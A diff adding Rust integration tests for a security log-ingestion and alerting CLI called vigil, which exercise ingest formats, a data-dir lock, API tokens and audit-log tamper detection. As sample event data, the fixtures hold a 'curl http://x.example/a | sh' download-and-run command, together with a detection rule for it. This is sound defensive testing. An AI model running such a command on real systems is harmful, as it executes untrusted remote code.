@@ -1,0 +1,137 @@
+//! The CLI end to end: offline ingest (NDJSON, gzip, syslog) with rejects
+//! reported by line, the data-dir lock against a running server, tokens, and
+//! `vigil audit verify` catching a row edited directly in the database.
+
+mod common;
+
+use std::io::Write;
+
+use common::{Server, vigil};
+
+#[test]
+fn offline_ingest_reports_rejects_and_raises_alerts() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("vigil.toml"),
+        "[[detect.rules]]\nid = \"curl-pipe\"\ntitle = \"Download piped to shell\"\nseverity = \"critical\"\nfield = \"process.command_line\"\nop = \"contains\"\nvalue = \"| sh\"\n",
+    )
+    .unwrap();
+    let file = dir.path().join("events.ndjson");
+    let mut text = String::new();
+    for i in 0..2000 {
+        let cmd = if i % 500 == 0 { "curl http://x.example/a | sh" } else { "ls -la" };
+        text.push_str(&format!("{{\"i\":{i},\"process\":{{\"command_line\":\"{cmd}\"}},\"host\":{{\"name\":\"h\"}}}}\n"));
+        if i == 100 {
+            text.push_str("{\"oops\":\n");
+        }
+    }
+    std::fs::write(&file, &text).unwrap();
+    let (code, out, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap(), "--format", "json", "--output", "json", "-q"]);
+    assert_eq!(code, 0, "{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v[0]["accepted"], 2000);
+    assert_eq!(v[0]["rejected"], 1);
+    assert_eq!(v[0]["alerts_raised"], 4);
+    assert!(err.contains("line 102:"), "the bad record is reported by line: {err}");
+
+    // The same data gzip-compressed is detected and decompressed.
+    let gz = dir.path().join("events.ndjson.gz");
+    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::fast());
+    enc.write_all(text.as_bytes()).unwrap();
+    enc.finish().unwrap();
+    let (code, out, err) = vigil(dir.path(), &["ingest", gz.to_str().unwrap(), "--output", "json", "-q"]);
+    assert_eq!(code, 0, "{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v[0]["accepted"], 2000);
+
+    // Syslog lines.
+    let sys = dir.path().join("auth.log");
+    std::fs::write(
+        &sys,
+        "<38>Nov 27 10:00:01 bastion sshd[4242]: Accepted publickey for root from 203.0.113.9 port 52100 ssh2\n\
+         <165>1 2026-11-27T10:00:02.000Z web1 nginx 77 ID47 [origin ip=\"192.0.2.1\"] GET /index.html\n",
+    )
+    .unwrap();
+    let (code, out, err) = vigil(dir.path(), &["ingest", sys.to_str().unwrap(), "--format", "syslog", "--output", "json", "-q"]);
+    assert_eq!(code, 0, "{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v[0]["accepted"], 2);
+
+    let (code, out, _) = vigil(dir.path(), &["alerts", "list", "--format", "csv", "--min-severity", "critical"]);
+    assert_eq!(code, 0);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 1 + 8, "header + 4 alerts per ingest of the NDJSON file twice: {out}");
+    assert!(lines[0].starts_with("time,severity,rule"), "{out}");
+}
+
+#[test]
+fn ingest_refuses_while_a_server_holds_the_data_dir() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("e.ndjson");
+    std::fs::write(&file, "{\"a\":1}\n").unwrap();
+    let server = Server::start(dir.path(), None);
+    let (code, _, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap()]);
+    assert_eq!(code, 2);
+    assert!(err.contains("is in use by vigil serve (pid"), "{err}");
+    assert!(err.contains("/api/v1/ingest"), "the error says what to do instead: {err}");
+    // Read-only commands work beside the server.
+    let (code, _, err) = vigil(dir.path(), &["alerts", "list"]);
+    assert_eq!(code, 0, "{err}");
+    server.stop();
+    let (code, _, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap(), "-q"]);
+    assert_eq!(code, 0, "{err}");
+}
+
+#[test]
+fn tokens_and_audit_verify_detects_a_directly_edited_row() {
+    let dir = tempfile::tempdir().unwrap();
+    let (code, token, err) = vigil(dir.path(), &["token", "create", "--role", "ingest", "--name", "shipper", "--quiet"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(token.trim().starts_with("vgl_"), "{token}");
+    let (code, _, _) = vigil(dir.path(), &["token", "create", "--role", "viewer"]);
+    assert_eq!(code, 0);
+    let (code, out, _) = vigil(dir.path(), &["token", "list", "--format", "json"]);
+    assert_eq!(code, 0);
+    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(list.as_array().unwrap().len(), 2);
+    assert!(!out.contains(token.trim()), "secrets are never listed");
+    let id = list[0]["id"].as_str().unwrap().to_owned();
+    let (code, _, err) = vigil(dir.path(), &["token", "revoke", &id]);
+    assert_eq!(code, 0, "{err}");
+    let (code, _, err) = vigil(dir.path(), &["token", "revoke", "nope"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("token list"), "{err}");
+
+    let (code, out, _) = vigil(dir.path(), &["audit", "verify"]);
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("intact: 3 entries"), "{out}");
+
+    // Tamper with the second entry behind Vigil's back.
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async {
+        let store = vigil_store::Store::open_sqlite(&dir.path().join("vigil.db")).await.unwrap();
+        store
+            .raw_execute("UPDATE audit_log SET target = 'someone-else' WHERE seq = 2")
+            .await
+            .unwrap();
+        store.close().await;
+    });
+    let (code, out, _) = vigil(dir.path(), &["audit", "verify"]);
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("BROKEN at entry 2"), "{out}");
+}
+
+#[test]
+fn config_show_and_help() {
+    let dir = tempfile::tempdir().unwrap();
+    let (code, out, _) = vigil(dir.path(), &["config", "show"]);
+    assert_eq!(code, 0);
+    assert!(out.contains("listen = \"127.0.0.1:8080\""), "{out}");
+    assert!(out.contains(&format!("data_dir = \"{}\"", dir.path().display())), "{out}");
+    let (code, out, _) = vigil(dir.path(), &["ingest", "--help"]);
+    assert_eq!(code, 0);
+    assert!(out.contains("--format"), "{out}");
+    let (code, _, err) = vigil(dir.path(), &["--database", "mysql://x", "alerts", "list"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("not a PostgreSQL URL"), "{err}");
+}
